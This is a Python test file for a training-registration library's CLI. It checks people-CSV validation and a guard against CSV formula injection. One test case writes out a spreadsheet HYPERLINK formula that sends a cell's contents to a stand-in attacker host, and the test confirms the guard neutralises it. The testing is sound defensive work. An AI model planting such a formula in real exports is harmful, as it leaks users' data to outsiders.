"""People-file validation is the facade's own rule (``registrants.person_field``), not a copy:
the CLI reads people files with the library's ``read_people_csv``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from gototraining import ValidationError, read_people_csv
from gototraining._builders import registrants
from gototraining._people_csv import FORMULA_TRIGGERS as READER_TRIGGERS
from gototraining._people_csv import unguard_cell
from gototraining.cli.csvio import (
    FORMULA_TRIGGERS,
    csv_bytes,
    guard_cell,
    read_people,
)
from hypothesis import given
from hypothesis import strategies as st


def _people_file(path: Path, email: str, given: str, surname: str) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["email", "given_name", "surname"])
        writer.writerow([email, given, surname])
    return path


def _facade_accepts(email: str, given: str, surname: str) -> bool:
    try:  # the builder register() uses, up to the request (no I/O)
        registrants.register("1", 5, email=email, given_name=given, surname=surname)
    except ValidationError:
        return False
    return True


@pytest.mark.parametrize(
    ("email", "given", "surname"),
    [
        ("ada@example.com", "Ada", "Lovelace"),
        ("ada@example.com", "A" * registrants.NAME_MAX, "L"),
        ("ada@example.com", "A" * (registrants.NAME_MAX + 1), "L"),
        ("ada@example.com", "Ada", "S" * (registrants.NAME_MAX + 1)),
        ("ada@example.com", "Ada\u2028Eve", "Lovelace"),
        ("ada@example.com", "Ada\tEve", "Lovelace"),
        ("ada@@example.com", "Ada", "Lovelace"),
        ("ada@exa\u200bmple.com", "Ada", "Lovelace"),
        ("a" * 250 + "@example.com", "Ada", "Lovelace"),
    ],
)
def test_a_row_passes_exactly_when_register_would_accept_it(
    tmp_path: Path, email: str, given: str, surname: str
) -> None:
    (row,) = read_people(str(_people_file(tmp_path / "p.csv", email, given, surname))).rows
    assert row.ok == _facade_accepts(email, given, surname)
    assert bool(row.problems) != row.ok


def test_the_name_limit_has_one_definition(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Changing the facade's limit changes the CLI's check: there is no second copy to drift."""
    monkeypatch.setattr(registrants, "NAME_MAX", 5)
    people = read_people(str(_people_file(tmp_path / "p.csv", "ada@example.com", "Adelaide", "L")))
    (bad,) = people.bad_rows
    assert bad.problems == ("given_name: at most 5 characters, got 8",)


# -- the formula guard ---------------------------------------------------------------------------


@given(st.text())
def test_guard_is_reversible_and_leaves_no_formula(value: str) -> None:
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert not guarded.startswith(FORMULA_TRIGGERS)


def test_the_writer_and_the_library_reader_agree_on_the_triggers() -> None:
    assert FORMULA_TRIGGERS == READER_TRIGGERS


@given(st.text(alphabet=st.sampled_from("=+-@'ab "), min_size=1))
def test_what_the_cli_writes_the_library_reads_back(name: str) -> None:
    data = csv_bytes(["email", "given_name", "surname"], [["a@example.com", name, "x"]])
    (row,) = read_people_csv(io.BytesIO(data))
    assert row.person.given_name == name.strip() or not row.ok


@pytest.mark.parametrize(
    ("value", "guarded"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&B2,"Open")',
            '\'=HYPERLINK("https://evil.example/?d="&B2,"Open")',
        ),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so that reading restores it
        ("Ada", "Ada"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_guard_cell(value: str, guarded: str) -> None:
    assert guard_cell(value) == guarded
    assert unguard_cell(guarded) == value


def test_csv_bytes_guards_cells_but_not_the_header_and_quotes_a_bare_cr() -> None:
    data = csv_bytes(["=h", "b"], [["=1+1", "a\rb"], ["x", "y"]]).decode()
    assert data.splitlines()[0] == "=h,b"
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["=h", "b"], ["'=1+1", "a\rb"], ["x", "y"]]
    assert list(csv.reader(io.StringIO(csv_bytes(["a"], [["=1"]], raw=True).decode()))) == [
        ["a"],
        ["=1"],
    ]


def test_read_people_reads_guarded_cells_back(tmp_path: Path) -> None:
    path = _people_file(tmp_path / "p.csv", "'-x@example.com", "'=Ada", "''=Lovelace")
    (row,) = read_people(str(path)).rows
    person = row.person
    assert row.ok
    assert (person.email, person.given_name, person.surname) == (
        "-x@example.com",
        "=Ada",
        "'=Lovelace",
    )
